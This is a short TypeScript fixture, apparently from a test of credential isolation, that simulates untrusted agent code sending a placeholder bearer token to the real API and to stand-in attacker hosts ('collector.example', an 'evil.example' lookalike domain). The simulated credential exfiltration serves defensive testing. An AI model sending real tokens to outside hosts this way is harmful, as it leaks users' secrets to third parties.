/** A GET request with one header, and what comes of it as text. */
export type Get = (url: string, authorization: string) => Promise<string>

/** Stands for code that somebody else wrote, a language model perhaps. Whatever it does, it has no more than a placeholder. */
export const runAgent = async (get: Get, placeholder: string, api: string): Promise<readonly string[]> => {
  const tries = [
    `${api}/issues`,
    `${api}/echo`,
    "https://collector.example/",
    "https://api.tracker.example.evil.example/",
  ]
  const seen = [`holds ${placeholder}`]
  for (const url of tries) seen.push(`GET ${url}: ${await get(url, `Bearer ${placeholder}`)}`)
  return seen
}
